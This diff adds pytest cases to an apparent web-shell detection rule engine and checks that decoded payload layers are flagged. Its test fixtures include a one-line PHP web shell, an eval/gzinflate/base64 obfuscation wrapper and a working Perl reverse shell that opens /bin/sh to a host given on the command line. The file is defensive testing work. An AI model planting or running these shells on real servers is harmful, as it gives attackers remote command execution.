@@ -434,3 +434,20 @@ def test_decoded_layer_is_matched_like_a_file(rules):
     inner = b"<?php system($_GET['c']); ?>"
     got = match_bytes(rules, inner, "/var/www/html/x.php", layer=2, chain="base64>gzinflate")
     assert "php_command_exec" in families(got, "critical")
+
+
+def test_decoded_layer_that_starts_with_eval_of_a_packed_literal_is_matched(rules):
+    layer = b"eval(gzinflate(base64_decode('" + b"QUJD" * 60 + b"')));"
+    got = match_bytes(rules, layer, "/var/www/html/x.php", layer=3, chain="base64>gzinflate")
+    assert "php_obfuscation" in families(got)
+
+
+def test_decoded_perl_back_connect_is_critical_but_the_same_text_as_stored_is_left_to_cgi_rules(rules):
+    perl = (
+        b"#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
+        b"connect(S, sockaddr_in($ARGV[1], inet_aton($ARGV[0])));\nexec('/bin/sh -i');\n"
+    )
+    decoded = match_bytes(rules, perl, "/var/www/html/x.php", layer=1, chain="base64")
+    assert "fim_php_command_exec_decoded_network_shell_script" in rules_of(decoded)
+    stored = match_bytes(rules, perl, "/var/www/html/x.php")
+    assert "fim_php_command_exec_decoded_network_shell_script" not in rules_of(stored)
